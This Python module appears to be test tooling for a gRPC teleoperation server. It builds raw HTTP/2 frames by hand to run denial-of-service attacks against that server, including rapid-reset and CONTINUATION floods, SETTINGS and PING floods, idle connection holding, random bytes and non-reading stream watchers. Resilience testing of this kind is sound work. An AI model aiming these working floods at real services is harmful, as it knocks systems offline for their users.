"""Attacks on a port with HTTP/2 in plain text. The bytes are built by hand, without a library."""
import random
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
OURS = "/palpate.v1.Teleoperation/"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """Encodes a header field that is never indexed, without Huffman coding: RFC 7541, 6.2.3. Name and value are shorter
    than 127 bytes."""
    return b"\x10" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def call_headers(path):
    return b"".join(literal(*pair) for pair in [
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "palpate"),
        ("content-type", "application/grpc"), ("te", "trailers")])


def message(body=b""):
    return b"\0" + struct.pack(">I", len(body)) + body


def call(stream, path, body=b"", ends=True):
    """Encodes a call: complete with one message, or open and without a message."""
    headers = frame(HEADERS, END_HEADERS, stream, call_headers(path))
    return headers + (frame(DATA, END_STREAM, stream, message(body)) if ends else b"")


def connect(address, greets=True):
    line = socket.create_connection(address, timeout=5)
    line.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if greets:
        line.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return line


def answers(address, patience):
    """Returns the time until a status was received on a new connection [s]; None: not within `patience`."""
    start = time.monotonic()
    while time.monotonic() - start < patience:
        try:
            with connect(address) as line:
                line.settimeout(patience)
                line.sendall(call(1, OURS + "GetStatus"))
                if has_trailers(line):
                    return time.monotonic() - start
        except OSError:
            time.sleep(0.01)
    return None


def has_trailers(line):
    """Reads until the only call of the connection `line` has its trailers. Acknowledges settings and pings."""
    seen = b""
    while True:
        while len(seen) >= 9 and len(seen) >= 9 + int.from_bytes(seen[:3], "big"):
            length, kind, flags = int.from_bytes(seen[:3], "big"), seen[3], seen[4]
            stream, payload, seen = int.from_bytes(seen[5:9], "big"), seen[9:9 + length], seen[9 + length:]
            if kind in (SETTINGS, PING) and not flags & ACK:
                line.sendall(frame(kind, ACK, 0, payload if kind == PING else b""))
            if kind == HEADERS and flags & END_STREAM and stream:
                return True
            if kind == RST_STREAM:
                return False
        more = line.recv(65536)
        if not more:
            return False
        seen += more


class Stopper:
    """A client that is connected before the attack, pings as palpate-master does, and calls Stop."""

    def __init__(self, address):
        self.line, self.stream = connect(address), 1
        self.line.settimeout(20)

    def wait(self, end):
        while (left := end - time.monotonic()) > 0:
            self.line.sendall(frame(PING, 0, 0, b"12345678"))
            time.sleep(min(left, 1))

    def stop(self):
        """Calls Stop. Returns the time until the complete reply [s]."""
        start = time.monotonic()
        self.line.sendall(call(self.stream, OURS + "Stop"))
        self.stream += 2
        if not has_trailers(self.line):
            raise AssertionError("Stop was refused")
        return time.monotonic() - start


def flood(address, end, chunks):
    """Sends the chunks of `chunks()` repeatedly. Reconnects when the connection is closed."""
    while time.monotonic() < end:
        try:
            with connect(address) as line:
                line.settimeout(0.5)
                for chunk in chunks():
                    line.sendall(chunk)
                    if time.monotonic() > end:
                        break
        except OSError:
            time.sleep(0.001)


def resets(path):
    def chunks():
        stream = 1
        while stream < 2**30:
            pairs = b""
            for _ in range(500):
                pairs += call(stream, path, ends=False) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                stream += 2
            yield pairs
    return chunks


def continuations():
    yield frame(HEADERS, 0, 1, call_headers(OURS + "GetScene"))
    more = frame(CONTINUATION, 0, 1, literal("x", "y" * 100) * 100) * 8
    while True:
        yield more


def settings():
    while True:
        yield frame(SETTINGS, 0, 0) * 5000


def pings():
    while True:
        yield frame(PING, 0, 0, b"12345678") * 3000


def hold(address, end, count, words, receive_buffer=None):
    """Keeps `count` connections that sent `words`. Replaces closed ones."""
    lines = []
    while time.monotonic() < end:
        while len(lines) < count:
            try:
                line = socket.socket()
                if receive_buffer:
                    line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
                line.settimeout(2)
                line.connect(address)
                line.sendall(words)
                line.setblocking(False)
                lines.append(line)
            except OSError:
                break
        time.sleep(0.1)
        lines = [line for line in lines if is_open(line)]


def is_open(line):
    try:
        return line.recv(1, socket.MSG_PEEK) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def random_bytes(address, end):
    dice = random.Random(1)
    while time.monotonic() < end:
        try:
            with connect(address, greets=False) as line:
                line.sendall(dice.randbytes(dice.randrange(1, 4096)))
        except OSError:
            time.sleep(0.001)


def set_models(address, end):
    """Calls for another model in bursts, and abandons them after a second."""
    body = b"\x0a\x05bem2d"  # kind
    while time.monotonic() < end:
        try:
            with connect(address) as line:
                for stream in range(1, 301, 2):
                    line.sendall(call(stream, OURS + "SetModel", body))
                time.sleep(1)
        except OSError:
            time.sleep(0.01)


def idle_streams(address, end):
    words = PREFACE + frame(SETTINGS, 0, 0)
    words += b"".join(call(stream, REFLECTION, ends=False) for stream in range(1, 129, 2))
    hold(address, end, 2, words)


def video_watchers(address, end):
    words = PREFACE + frame(SETTINGS, 0, 0) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**30))
    hold(address, end, 64, words + call(1, OURS + "WatchImages", b"\x10\x01\x18\x64"), 4096)


# test_untrusted_clients.py states what a slave must do under each attack.
ATTACKS = {
    "idle streams": idle_streams,
    "1100 idle connections": lambda address, end: hold(address, end, 1100, b""),
    "1100 that greet and say no more": lambda address, end: hold(address, end, 1100, PREFACE),
    "random bytes": random_bytes,
    "rapid reset of GetScene": lambda address, end: flood(address, end, resets(OURS + "GetScene")),
    "rapid reset of Operate": lambda address, end: flood(address, end, resets(OURS + "Operate")),
    "endless headers": lambda address, end: flood(address, end, continuations),
    "settings": lambda address, end: flood(address, end, settings),
    "pings": lambda address, end: flood(address, end, pings),
    "models": set_models,
    "video watchers that never read": video_watchers,
}
